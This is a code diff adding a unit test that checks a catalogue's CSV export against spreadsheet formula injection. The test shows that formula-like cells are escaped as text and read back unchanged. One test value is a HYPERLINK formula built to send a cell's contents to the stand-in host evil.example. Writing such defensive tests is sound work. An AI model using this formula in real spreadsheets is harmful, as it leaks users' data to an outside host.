@@ -119,3 +119,29 @@ describe("catalogue spreadsheet", () => {
     });
   });
 });
+
+describe("spreadsheet exports against formula injection", () => {
+  it("writes formula-like cells as text and reads them back unchanged", () => {
+    const leiden = load("leiden-2023");
+    const [first, ...rest] = leiden.blocks;
+    if (!first) throw new Error("leiden-2023 has blocks");
+    const hostile = {
+      ...first,
+      name: '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
+      note: "@SUM(1+1)",
+    };
+    const csv = rowsToCsv(catalogueToRows({ blocks: [hostile, ...rest], bonuses: leiden.bonuses }));
+    const line = csv.split("\r\n")[1] ?? "";
+    expect(line).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Klik"")"`);
+    expect(line).toContain(",'@SUM(1+1)");
+    // no cell of any line starts a formula
+    expect(csv.split(/\r\n/).some((l) => /(^|,)"?[=+@]/.test(l))).toBe(false);
+    const back = catalogueFromCsv(csv, {
+      region: "Regio Test",
+      name: "Test",
+      validFrom: "2026-01-01",
+      basisHours: "36",
+    });
+    expect(back.ok && back.catalogue.blocks[0]).toEqual(hostile);
+  });
+});
